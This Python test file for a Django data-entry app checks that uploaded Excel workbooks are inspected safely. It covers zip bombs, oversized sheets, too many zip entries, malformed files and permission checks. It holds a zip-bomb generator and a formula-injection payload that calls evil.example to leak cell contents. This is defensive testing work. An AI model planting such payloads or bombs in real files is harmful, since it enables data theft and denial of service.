"""An uploaded workbook is inspected before it is opened (the issue's failure 2 at a CI size):
a zip bomb or a sheet declaring a million rows is refused in Vietnamese at once, and a user who
may not enter figures is refused before the file is looked at."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from phongtrao.accounts.models import Role
from phongtrao.data.models import DataValue
from phongtrao.spreadsheets import SpreadsheetError, XlsxLimits, xlsx_inspect, xlsx_open
from phongtrao.tests.memory import traced

from .conftest import _officer

pytestmark = pytest.mark.django_db


def _url(unit, form="BC_NAM_XA", period="2023"):
    return f"/nhap-lieu/excel/{form}/{unit.uid}/{period}/"


def zip_bomb(uncompressed: int) -> bytes:
    """A workbook-shaped zip whose one sheet inflates to `uncompressed` bytes of spaces."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b" " * uncompressed)
    return out.getvalue()


def workbook_bytes(book: Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_zip_bomb_is_refused_from_its_directory_in_flat_memory(client, people, small_tree):
    bomb = zip_bomb(60 * 1024 * 1024)
    assert len(bomb) < 100 * 1024
    client.force_login(people["xa"])

    with traced() as memory:
        response = client.post(_url(small_tree["c1"]), {"tep": SimpleUploadedFile("a.xlsx", bomb)})

    assert response.status_code == 400
    assert "giải nén quá lớn" in response.content.decode()
    assert memory.peak < 20 * 1024 * 1024
    assert DataValue.objects.count() == 0


def test_sheet_declaring_too_many_rows_or_columns_is_refused():
    book = Workbook()
    book.active["A1"] = 1
    book.active.cell(row=30_000, column=1, value=1)
    with pytest.raises(SpreadsheetError, match="dòng"):
        xlsx_inspect(workbook_bytes(book))

    wide = Workbook()
    wide.active.cell(row=1, column=600, value=1)
    with pytest.raises(SpreadsheetError, match="cột"):
        xlsx_inspect(workbook_bytes(wide))


def test_entry_count_and_file_size_are_capped():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for i in range(300):
            archive.writestr(f"x{i}.xml", "")
    with pytest.raises(SpreadsheetError, match="300|200"):
        xlsx_inspect(out.getvalue())
    with pytest.raises(SpreadsheetError, match="quá lớn"):
        xlsx_inspect(b"x" * 100, XlsxLimits(max_bytes=10))


def test_a_workbook_within_the_limits_opens_read_only():
    book = Workbook()
    book.active["A1"] = "xin chào"

    opened = xlsx_open(io.BytesIO(workbook_bytes(book)))

    assert opened.read_only
    assert next(opened.active.iter_rows(values_only=True)) == ("xin chào",)
    opened.close()


@pytest.mark.parametrize("data", [b"", b"PK\x03\x04 broken", b"not a zip at all" * 100])
def test_not_a_workbook_is_a_clear_error(data):
    with pytest.raises(SpreadsheetError, match="không phải là tệp Excel"):
        xlsx_open(io.BytesIO(data))


def test_a_viewer_is_refused_before_the_file_is_opened(client, small_tree):
    viewer = _officer("xem", small_tree["c1"], {Role.VIEW})
    client.force_login(viewer)

    response = client.post(
        _url(small_tree["c1"]), {"tep": SimpleUploadedFile("a.xlsx", zip_bomb(60 * 1024**2))}
    )

    assert response.status_code == 403


def test_unit_named_as_a_formula_is_text_in_the_template(client, small_tree):
    """The issue's failure 3: a unit named as a formula reaches others' templates as text."""
    attack = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    c1 = small_tree["c1"]
    type(c1).objects.filter(pk=c1.pk).update(name=attack)
    client.force_login(_officer("huyen_nl", small_tree["d1"], {Role.VIEW, Role.ENTER}))

    response = client.get(_url(small_tree["d1"]))

    sheet = load_workbook(io.BytesIO(response.content))["BC_NAM_XA"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value == attack]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
